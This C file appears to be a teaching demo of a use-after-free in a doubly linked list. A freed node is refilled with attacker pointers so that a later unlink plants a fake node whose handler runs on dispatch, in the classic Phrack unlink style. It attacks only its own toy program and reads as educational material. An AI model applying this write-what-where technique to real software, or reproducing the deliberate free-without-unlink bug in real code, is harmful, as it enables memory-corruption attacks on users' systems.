/* UAF via a dangling node left in a doubly linked list: the freed node is refilled with
 * attacker next/prev pointers and the later unlink writes them (write-what-where), planting an
 * attacker node whose handler runs when the list is dispatched.
 * Published: "Vudo malloc tricks" (MaXX, Phrack 57:8, 2001) unlink primitive, applied to an
 * application list; Linux kernel list_del() UAF exploits (e.g. CVE-2017-10661 write-ups).
 * Primitive: use after free (read of list pointers) -> arbitrary write -> control flow. */
#include <string.h>
#include "common.h"

struct node { struct node *next, *prev; void (*handler)(void); long id; };

static struct node head = {&head, &head, NULL, 0};

static void hello(void) { printf("session handler\n"); }
static void attacker(void) { printf("ATTACK SUCCEEDED: unlink planted attacker()\n"); }

static struct node *add(long id) {
    struct node *n = malloc(sizeof *n);
    n->handler = hello;
    n->id = id;
    n->prev = head.prev;
    n->next = &head;
    head.prev->next = n;
    head.prev = n;
    return n;
}

static void unlink_node(struct node *n) {
    n->prev->next = n->next;
    n->next->prev = n->prev;
}

int main(void) {
    test_init();
    printf("list unlink: dangling node refilled, unlink writes attacker pointers\n");
    struct node *n1 = add(1);
    add(2);
    print_ptr("victim", n1);
    free(n1); /* BUG: freed on an error path without unlinking */
    struct node *refill = malloc(sizeof *refill); /* attacker's same-size message */
    struct node *evil = malloc(sizeof *evil);     /* attacker's second message */
    *evil = (struct node){&head, &head, attacker, 666};
    *refill = (struct node){evil, &head, NULL, 0};
    unlink_node(n1); /* BUG: the stale node is unlinked later */
    for (struct node *n = head.next; n != &head; n = n->next)
        n->handler();
    printf("dispatch done\n");
    return 0;
}
